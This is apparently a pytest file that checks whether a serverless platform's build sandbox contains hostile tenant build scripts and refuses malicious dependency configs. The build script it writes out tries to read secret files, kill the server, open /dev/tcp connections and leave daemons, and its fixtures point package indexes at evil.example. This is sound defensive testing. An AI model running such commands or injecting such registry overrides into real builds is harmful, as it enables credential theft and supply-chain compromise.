"""Hostile builds against a real ``wisp server``: a tenant's build script tries what an
unconfined one could do (read the data dir, kill the server, leave a daemon, write the
shared cache, reach services on 127.0.0.1), and every attempt fails or is contained.
Deploy-time input that reaches outside the function is refused with a 400."""

from __future__ import annotations

import base64
import contextlib
import os
import shutil
import socket
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.observability.live import Live
from tests.runtimes.conftest import make_zip

ROOT = os.geteuid() == 0
needs_root = pytest.mark.skipif(not ROOT, reason="a uid per build needs root (CI runs as root)")
MARKER = "987.654321"  # the daemon's sleep: a number no other process on the host uses


@pytest.fixture(scope="module")
def live(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Live]:
    # Outside /tmp (as a real data dir is): the bundles and the build cache live in it.
    data = Path("/var/lib") / f"wisp-build-hostile-{os.getpid()}"
    try:
        with Live(tmp_path_factory.mktemp("hostile-builds"), data_dir=data) as server:
            yield server
    finally:
        shutil.rmtree(data, ignore_errors=True)


def deploy(
    live: Live, name: str, files: dict[str, str], auth: str | None = None
) -> tuple[int, dict]:
    code = base64.b64encode(make_zip(files)).decode()
    body = {"exec": {"kind": "python:default", "code": code, "binary": True}}
    with live.client(auth) as http:
        answer = http.put(f"/api/v1/namespaces/_/actions/{name}?overwrite=true", json=body)
    return answer.status_code, answer.json()


def reachable(port: int) -> bool:
    with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=2):
        return True
    return False


def daemons() -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            with contextlib.suppress(OSError):
                if MARKER in (entry / "cmdline").read_bytes().decode(errors="replace"):
                    found.append(int(entry.name))
    return found


def test_a_build_script_reaches_nothing_of_the_host(live: Live) -> None:
    assert live.proc is not None
    data = live.data_dir.resolve()
    secrets = [data / "wisp.db", data / "guest.key", data / "console.secret"]
    if not (data / "console.secret").exists():
        (data / "console.secret").write_text("s")  # made on the console's first use
        os.chmod(data / "console.secret", 0o600)
    cache = data / "build-cache"
    ports = [p for p in (5432, 6379, live.port) if reachable(p)]
    assert live.port in ports  # the API answers on the host's loopback
    lines = [
        "echo uid $(id -u)",
        *(
            f"if head -c1 {path} >/dev/null 2>&1; then echo READ {path}; else echo DENIED {path}; fi"
            for path in secrets
        ),
        f"ls {data} >/dev/null 2>&1 && echo LISTED || echo UNLISTED",
        f"kill -9 {live.proc.pid} 2>/dev/null && echo KILLED || echo NOKILL",
        *(
            f"if (exec 3<>/dev/tcp/127.0.0.1/{port}) 2>/dev/null; then echo CONNECTED {port}; "
            f"else echo REFUSED {port}; fi"
            for port in ports
        ),
        *(
            f"(touch {target}/planted && echo WROTE {target}) 2>/dev/null || echo NOWRITE {target}"
            for target in ("/build/cache", "/build/cache/objects", cache, cache / "objects")
        ),
        f"setsid nohup sleep {MARKER} >/dev/null 2>&1 &",
        f"( sleep {MARKER} & ) ",
        f"ls {data / 'bundles'} >/dev/null 2>&1 && echo BUNDLES || echo NOBUNDLES",
        "unshare --user true 2>/dev/null && echo UNSHARED || echo NOUNSHARE",
        "echo procs $(ls /proc | grep -c '^[0-9]')",
        f"[ -e /proc/{live.proc.pid}/cmdline ] && echo SERVER VISIBLE",
        "grep -E '^(CapEff|CapBnd|NoNewPrivs|Seccomp):' /proc/self/status",
        "sleep 0.3; echo done",
    ]
    status, body = deploy(
        live,
        "hostile",
        {"__main__.py": "def main(a): return {}", "build.sh": "\n".join(lines) + "\n"},
    )
    assert status == 200, body
    log = body["build"]["log"]
    assert "done" in log, log
    for path in secrets:
        assert f"DENIED {path}" in log, log
    assert "UNLISTED" in log and "NOKILL" in log, log
    for port in ports:
        assert f"REFUSED {port}" in log, log
    assert "WROTE" not in log and log.count("NOWRITE") == 4, log
    assert "NOBUNDLES" in log and "NOUNSHARE" in log, log  # other tenants' code; seccomp
    assert int(log.split("procs ")[1].split()[0]) <= 12, log  # its own pid namespace only
    assert "SERVER VISIBLE" not in log, log
    for line in ("CapEff:\t0000000000000000", "CapBnd:\t0000000000000000"):
        assert line in log, log
    assert "NoNewPrivs:\t1" in log and "Seccomp:\t2" in log, log
    assert not list(cache.rglob("planted"))
    # The daemons went with the build's namespace: none outlived the deploy.
    assert daemons() == []
    assert live.proc.poll() is None  # the server is still up
    banner = live.output()
    assert "builds:" in banner and "private-root" in banner and "network: pypi.org" in banner
    assert live.call("GET", "/api/v1/namespaces/_/actions/hostile")[0] == 200
    if ROOT:
        uid = int(log.split("uid ")[1].split()[0])
        assert uid >= 200_000 and uid != os.geteuid()


@needs_root
def test_two_tenants_builds_do_not_share_a_uid(live: Live) -> None:
    script = {"__main__.py": "def main(a): return {}", "build.sh": "echo uid $(id -u)\n"}
    uids = []
    for name, auth in (("mine", None), ("theirs", live.other)):
        status, body = deploy(live, name, {**script, "x.txt": name}, auth)
        assert status == 200, body
        uids.append(int(body["build"]["log"].split("uid ")[1].split()[0]))
    assert uids[0] != uids[1]
    # Nor an instance's: a function reports the uid it runs as.
    live.deploy("whoami", "import os\ndef main(a):\n    return {'uid': os.getuid()}\n")
    answer = live.invoke("whoami")
    assert answer.json()["response"]["result"]["uid"] not in uids


@pytest.mark.parametrize(
    ("files", "named"),
    [
        ({"requirements.txt": "-r /etc/passwd\n"}, "requirements.txt line 1"),
        (
            {"requirements.txt": "six==1.16.0\n--index-url http://evil.example/simple\n"},
            "requirements.txt line 2",
        ),
        (
            {"requirements.txt": "-r sub/more.txt\n", "sub/more.txt": "\n\n-i http://evil\n"},
            "sub/more.txt line 3",
        ),
        ({"requirements.txt": "-c ../../../etc/passwd\n"}, "requirements.txt line 1"),
    ],
)
def test_requirements_reaching_outside_are_refused_naming_the_line(
    live: Live, files: dict[str, str], named: str
) -> None:
    status, body = deploy(live, "refused", {"__main__.py": "def main(a): return {}", **files})
    assert status == 400, body
    assert named in body["error"], body
    assert "root:x:0:0" not in body["error"]  # nothing of the outside file is echoed


def test_npmrc_registry_override_is_refused(live: Live) -> None:
    code = base64.b64encode(
        make_zip(
            {
                "index.js": "exports.main = () => ({})",
                "package.json": '{"name": "fn", "dependencies": {"is-number": "7.0.0"}}',
                ".npmrc": "; mine\nregistry=http://evil.example/\n",
            }
        )
    ).decode()
    body = {"exec": {"kind": "nodejs:default", "code": code, "binary": True}}
    with live.client() as http:
        answer = http.put("/api/v1/namespaces/_/actions/npmrc?overwrite=true", json=body)
    assert answer.status_code == 400, answer.text
    assert ".npmrc line 2" in answer.json()["error"]
